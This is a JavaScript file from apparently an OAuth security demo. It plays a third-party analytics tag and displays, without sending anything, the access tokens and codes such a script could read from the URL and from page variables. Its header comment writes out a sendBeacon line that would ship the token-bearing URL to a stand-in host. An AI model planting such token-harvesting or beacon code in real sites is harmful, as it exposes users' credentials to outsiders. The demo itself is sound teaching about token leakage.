// @ts-check
/*
 * analytics.js: a STAND-IN for a third-party script (an analytics or ads tag) that a site includes on its pages.
 * Written for the demo; it sends nothing anywhere. It shows what such a script can read on the quick-print
 * callback page: the URL (the token is in its fragment with the Implicit flow) and the page's JavaScript
 * variables (where any single-page app keeps its token).
 *
 * A real one would do `navigator.sendBeacon('https://analytics.example/collect', location.href)`.
 */
(function () {
  'use strict';
  var outputs = document.querySelectorAll('.analytics-output');
  if (outputs.length === 0) return;

  /** @param {string} where @param {string} value */
  function report(where, value) {
    outputs.forEach(function (list) {
      var item = document.createElement('li');
      var label = document.createElement('strong');
      label.textContent = 'analytics.js could read: ';
      var code = document.createElement('code');
      code.className = 'shown-value';
      code.textContent = value;
      var from = document.createElement('span');
      from.className = 'small muted';
      from.textContent = ' (from ' + where + ')';
      item.appendChild(label);
      item.appendChild(from);
      item.appendChild(code);
      list.appendChild(item);
    });
  }

  // What every analytics tag records first: the page's address. It runs before the page's own script has had a
  // chance to clean the address bar.
  var fragment = new URLSearchParams(location.hash.slice(1));
  var query = new URLSearchParams(location.search);
  var tokenInUrl = fragment.get('access_token');
  var codeInUrl = query.get('code');
  if (tokenInUrl) {
    report('location.hash', tokenInUrl);
    report('location.href, which it would send to its server', location.href);
  } else if (codeInUrl) {
    report('location.search: the one-time code', codeInUrl);
  }

  // Later, the token the page keeps in a JavaScript variable.
  document.addEventListener('quickprint:token', function () {
    var held = window.quickPrint && window.quickPrint.accessToken;
    if (held) report('the page\u2019s variable window.quickPrint.accessToken', held);
  });
})();
